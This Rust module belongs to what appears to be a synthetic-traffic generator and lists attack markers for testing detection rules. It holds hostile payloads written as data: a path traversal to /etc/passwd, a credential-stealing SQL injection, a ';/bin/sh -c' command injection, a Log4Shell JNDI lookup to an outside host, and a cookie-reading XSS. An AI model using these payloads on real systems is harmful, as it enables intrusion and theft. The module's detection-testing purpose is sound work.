//! Known attack payloads that the generator can plant in a fraction of its flows, as
//! data that a rule set can be written against.
//!
//! Every attack has a *marker*: exact bytes that appear in the flow's application data
//! (a TCP stream or a UDP datagram) in the direction given, and nowhere in benign
//! traffic. With the natural size mix each marker lies within a single packet; with a
//! size mix of small classes a TCP marker may be split across segments, so matching it
//! then needs stream reassembly.

use std::fmt;
use std::str::FromStr;

use crate::error::GenError;

/// Which attack a flow carries.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "kebab-case")]
pub enum AttackKind {
    /// HTTP request for a path climbing out of the web root to `/etc/passwd`.
    PathTraversal,
    /// HTTP form post with a `UNION SELECT` SQL injection.
    SqlInjection,
    /// HTTP form post whose parameter runs a shell.
    CommandInjection,
    /// HTTP request with a Log4Shell JNDI lookup in headers.
    #[serde(rename = "log4shell")]
    Log4Shell,
    /// HTTP request with a reflected `<script>` in the query string.
    Xss,
    /// HTTP response whose body is the EICAR anti-virus test file.
    Eicar,
    /// DNS query for a clearly malicious domain name.
    BadDomain,
    /// TLS ClientHello whose server name (SNI) is a clearly malicious domain.
    BadSni,
}

/// The application protocol that carries an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Protocol {
    /// HTTP/1.1 over TCP port 80.
    Http,
    /// TLS over TCP port 443.
    Tls,
    /// DNS over UDP port 53.
    Dns,
    /// ICMP or ICMPv6 echo.
    Icmp,
}

impl Protocol {
    /// Every protocol, in a fixed order.
    pub const ALL: [Protocol; 4] = [Protocol::Http, Protocol::Tls, Protocol::Dns, Protocol::Icmp];

    /// Lower-case name.
    pub fn name(self) -> &'static str {
        match self {
            Protocol::Http => "http",
            Protocol::Tls => "tls",
            Protocol::Dns => "dns",
            Protocol::Icmp => "icmp",
        }
    }

    /// The transport protocol: `"tcp"`, `"udp"` or `"icmp"`.
    pub fn transport(self) -> &'static str {
        match self {
            Protocol::Http | Protocol::Tls => "tcp",
            Protocol::Dns => "udp",
            Protocol::Icmp => "icmp",
        }
    }

    /// The server port (0 for ICMP).
    pub fn server_port(self) -> u16 {
        match self {
            Protocol::Http => 80,
            Protocol::Tls => 443,
            Protocol::Dns => 53,
            Protocol::Icmp => 0,
        }
    }
}

impl fmt::Display for Protocol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Which way the marker travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Direction {
    /// From the client to the server.
    ToServer,
    /// From the server to the client.
    ToClient,
}

/// An attack the generator can plant, described for rule writers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Attack {
    /// Which attack.
    pub kind: AttackKind,
    /// Short kebab-case name (as in configuration files).
    pub name: &'static str,
    /// What the flow looks like.
    pub description: &'static str,
    /// The protocol that carries it.
    pub protocol: Protocol,
    /// The server port it is sent to.
    pub port: u16,
    /// Which way the marker travels.
    pub direction: Direction,
    /// Exact bytes present in the flow's application data.
    pub marker: &'static [u8],
}

/// The EICAR anti-virus test file (68 bytes).
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// The malicious domain queried over DNS.
pub const BAD_DOMAIN: &str = "malware-c2.bad-domain.example";

/// The malicious domain sent as TLS server name.
pub const BAD_SNI: &str = "phishing-login.evil-c2.example";

/// Every attack the generator knows, in [`AttackKind`] order.
pub const ATTACKS: &[Attack] = &[
    Attack {
        kind: AttackKind::PathTraversal,
        name: "path-traversal",
        description: "HTTP GET /../../../../etc/passwd: directory traversal out of the web root",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToServer,
        marker: b"GET /../../../../etc/passwd",
    },
    Attack {
        kind: AttackKind::SqlInjection,
        name: "sql-injection",
        description: "HTTP POST /login whose form field holds \
                      ' UNION SELECT username,password FROM users--",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToServer,
        marker: b"' UNION SELECT username,password FROM users--",
    },
    Attack {
        kind: AttackKind::CommandInjection,
        name: "command-injection",
        description: "HTTP POST /cgi-bin/ping.cgi with host=192.0.2.1;/bin/sh -c 'id;uname -a'",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToServer,
        marker: b";/bin/sh -c",
    },
    Attack {
        kind: AttackKind::Log4Shell,
        name: "log4shell",
        description: "HTTP GET whose User-Agent and X-Api-Version headers hold \
                      ${jndi:ldap://203.0.113.66:1389/Exploit} (CVE-2021-44228)",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToServer,
        marker: b"${jndi:ldap://",
    },
    Attack {
        kind: AttackKind::Xss,
        name: "xss",
        description: "HTTP GET /search?q=<script>alert(document.cookie)</script>: reflected XSS",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToServer,
        marker: b"<script>alert(document.cookie)</script>",
    },
    Attack {
        kind: AttackKind::Eicar,
        name: "eicar",
        description: "HTTP response to GET /downloads/eicar.com.txt whose body is the EICAR \
                      anti-virus test file",
        protocol: Protocol::Http,
        port: 80,
        direction: Direction::ToClient,
        marker: EICAR,
    },
    Attack {
        kind: AttackKind::BadDomain,
        name: "bad-domain",
        description: "DNS query (and its response) for malware-c2.bad-domain.example; the \
                      marker is the name in DNS wire format",
        protocol: Protocol::Dns,
        port: 53,
        direction: Direction::ToServer,
        marker: b"\x0amalware-c2\x0abad-domain\x07example\x00",
    },
    Attack {
        kind: AttackKind::BadSni,
        name: "bad-sni",
        description: "TLS ClientHello with server name phishing-login.evil-c2.example",
        protocol: Protocol::Tls,
        port: 443,
        direction: Direction::ToServer,
        marker: b"phishing-login.evil-c2.example",
    },
];

impl AttackKind {
    /// Every attack kind, in the order of [`ATTACKS`].
    pub const ALL: [AttackKind; 8] = [
        AttackKind::PathTraversal,
        AttackKind::SqlInjection,
        AttackKind::CommandInjection,
        AttackKind::Log4Shell,
        AttackKind::Xss,
        AttackKind::Eicar,
        AttackKind::BadDomain,
        AttackKind::BadSni,
    ];

    /// The description of this attack in [`ATTACKS`].
    pub fn info(self) -> &'static Attack {
        &ATTACKS[self as usize]
    }

    /// The kebab-case name.
    pub fn name(self) -> &'static str {
        self.info().name
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for AttackKind {
    type Err = GenError;

    /// Parses a kebab-case name such as `log4shell` or `path-traversal`.
    fn from_str(s: &str) -> Result<AttackKind, GenError> {
        let wanted = s.trim().to_ascii_lowercase().replace('_', "-");
        AttackKind::ALL
            .into_iter()
            .find(|k| k.name() == wanted)
            .ok_or_else(|| {
                let known: Vec<&str> = ATTACKS.iter().map(|a| a.name).collect();
                GenError::UnknownAttack(s.to_string(), known.join(", "))
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_matches_kinds() {
        assert_eq!(ATTACKS.len(), AttackKind::ALL.len());
        for (i, k) in AttackKind::ALL.into_iter().enumerate() {
            assert_eq!(ATTACKS[i].kind, k);
            assert_eq!(k.info().kind, k);
            assert_eq!(k.name().parse::<AttackKind>().unwrap(), k);
            assert_eq!(ATTACKS[i].port, ATTACKS[i].protocol.server_port());
            assert!(ATTACKS[i].marker.len() >= 10);
            let json = serde_json::to_string(&k).unwrap();
            assert_eq!(json, format!("\"{}\"", k.name()));
        }
        assert!("nope".parse::<AttackKind>().is_err());
        assert_eq!(EICAR.len(), 68);
    }

    #[test]
    fn dns_marker_is_the_wire_name() {
        let mut wire = Vec::new();
        for label in BAD_DOMAIN.split('.') {
            wire.push(label.len() as u8);
            wire.extend_from_slice(label.as_bytes());
        }
        wire.push(0);
        assert_eq!(AttackKind::BadDomain.info().marker, &wire[..]);
        assert_eq!(AttackKind::BadSni.info().marker, BAD_SNI.as_bytes());
    }
}
